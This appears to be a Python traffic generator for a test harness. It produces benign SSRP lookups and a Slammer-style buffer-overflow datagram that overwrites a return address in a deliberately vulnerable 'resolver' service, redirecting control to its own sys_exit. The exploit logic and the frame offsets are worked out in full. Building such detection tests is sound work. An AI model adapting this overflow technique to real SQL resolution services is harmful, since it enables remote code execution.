"""Traffic for ``resolver`` (SSRP on UDP 1434): benign lookups and the Slammer-class exploit.

The bug: ``lookup_instance`` copies the name after the 0x04 type byte with its own unbounded
``strcpy`` into ``char name[64]``. Its disassembly (``objdump -d --no-show-raw-insn
bin/resolver``) shows the frame::

    40111a <lookup_instance>:
      push   %rbx                  # saved rbx at name+0x40
      sub    $0x40,%rsp            # name[64] spans the whole 0x40 bytes
      mov    %rdi,%rsi
      mov    %rsp,%rdi             # strcpy(name = rsp + 0, requested)
      call   401102 <strcpy>

so the saved return address is 0x40 + 8 = 0x48 bytes from ``name[0]`` (``NAME_TO_RET``;
``tests/sca/test_services.py`` re-derives it from the binary).

The exploit: type 0x04, 0x48 filler bytes (no NUL), then the low three bytes of the target
address and the name's NUL. The copy stops at that NUL, so the target's fourth byte is the
NUL and its upper four bytes keep the zeros of the original return address (0x401388). On
``ret`` control goes to the target: an execution-control alert. The canonical target is
``sys_exit`` (the service's own exit stub, read from the symbol table), so even a hijack in a
sandbox ends harmlessly; a verifier substitutes its own target anyway.
"""

from __future__ import annotations

import random

from sca.alert import AlertType, ExecutionControl, Message
from sca.services import symbol_address
from sca.services._traffic import ExploitCase, datagram_refs, word

EXPECTED_TYPE = AlertType.EXECUTION_CONTROL

SERVICE = "resolver"
PORT = 1434

CLNT_BCAST_EX = 0x02
CLNT_UCAST_EX = 0x03
CLNT_UCAST_INST = 0x04
CLNT_PING = 0x0A

NAME_OFFSET = 1  # the name follows the type byte
NAME_SIZE = 64  # char name[64]
NAME_TO_RET = 0x48  # push %rbx; sub $0x40,%rsp; mov %rsp,%rdi -> 0x40 + 8
TARGET_SYMBOL = "sys_exit"
TARGET_BYTES = 3  # the attacker writes 3 address bytes; the name's NUL is the 4th

# Instances the resolver knows (see resolver.c) and some it does not (it stays silent).
KNOWN_INSTANCES = ("MSSQLSERVER", "SQLEXPRESS", "REPORTING", "ARCHIVE")
OTHER_INSTANCES = ("SQL2000", "DEV", "HR_PAYROLL", "STAGING", "BACKUP01", "TEST")


def target_address() -> int:
    """Where the canonical exploit sends control: ``sys_exit`` in the committed binary."""
    address = symbol_address(SERVICE, TARGET_SYMBOL)
    low = address.to_bytes(8, "little")
    if 0 in low[:TARGET_BYTES] or any(low[TARGET_BYTES:]):
        raise ValueError(f"{TARGET_SYMBOL} at {address:#x} is not 3 non-NUL bytes")
    return address


def _instance_name(rng: random.Random) -> bytes:
    if rng.random() < 0.7:
        name = rng.choice(KNOWN_INSTANCES)
        # SSRP names are case-insensitive; real clients send them in any case.
        if rng.random() < 0.3:
            name = name.lower()
    else:
        name = rng.choice((*OTHER_INSTANCES, word(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZ_", 3, 15)))
    return name.encode()


def _benign_datagram(rng: random.Random) -> bytes:
    roll = rng.random()
    if roll < 0.55:
        return bytes([CLNT_UCAST_INST]) + _instance_name(rng) + b"\x00"
    if roll < 0.8:
        return bytes([rng.choice((CLNT_BCAST_EX, CLNT_UCAST_EX))])
    return bytes([CLNT_PING])


def benign(rng: random.Random) -> list[Message]:
    """One client's session: 1 to 5 datagrams, at least one of which gets a reply."""
    first = bytes([CLNT_UCAST_INST]) + rng.choice(KNOWN_INSTANCES).encode() + b"\x00"
    if rng.random() < 0.4:
        first = bytes([rng.choice((CLNT_BCAST_EX, CLNT_UCAST_EX))])
    datagrams = [first] + [_benign_datagram(rng) for _ in range(rng.randint(0, 4))]
    return [Message(d) for d in datagrams]


def exploit_case(rng: random.Random | None = None) -> ExploitCase:
    """The exploit and where its target bytes are. ``rng`` None: one datagram, Slammer's 0x01
    filler. With an rng: random non-NUL filler, random bytes after the name's NUL (ignored by
    the copy), and 0 to 2 benign datagrams first."""
    target = target_address().to_bytes(8, "little")[:TARGET_BYTES]
    if rng is None:
        filler = b"\x01" * NAME_TO_RET
        trailer = b""
        before: list[Message] = []
    else:
        filler = bytes(rng.randint(1, 255) for _ in range(NAME_TO_RET))
        trailer = bytes(rng.randint(0, 255) for _ in range(rng.randint(0, 48)))
        before = [Message(_benign_datagram(rng)) for _ in range(rng.randint(0, 2))]
    data = bytes([CLNT_UCAST_INST]) + filler + target + b"\x00" + trailer
    index = len(before)
    # The NUL after the target is copied too and becomes the target's 4th byte.
    refs = datagram_refs(index, NAME_OFFSET + NAME_TO_RET, TARGET_BYTES + 1)
    return ExploitCase((*before, Message(data)), ExecutionControl(refs))


def exploit(rng: random.Random | None = None) -> list[Message]:
    """rng None: the canonical exploit; with an rng: a random variant."""
    return list(exploit_case(rng).messages)
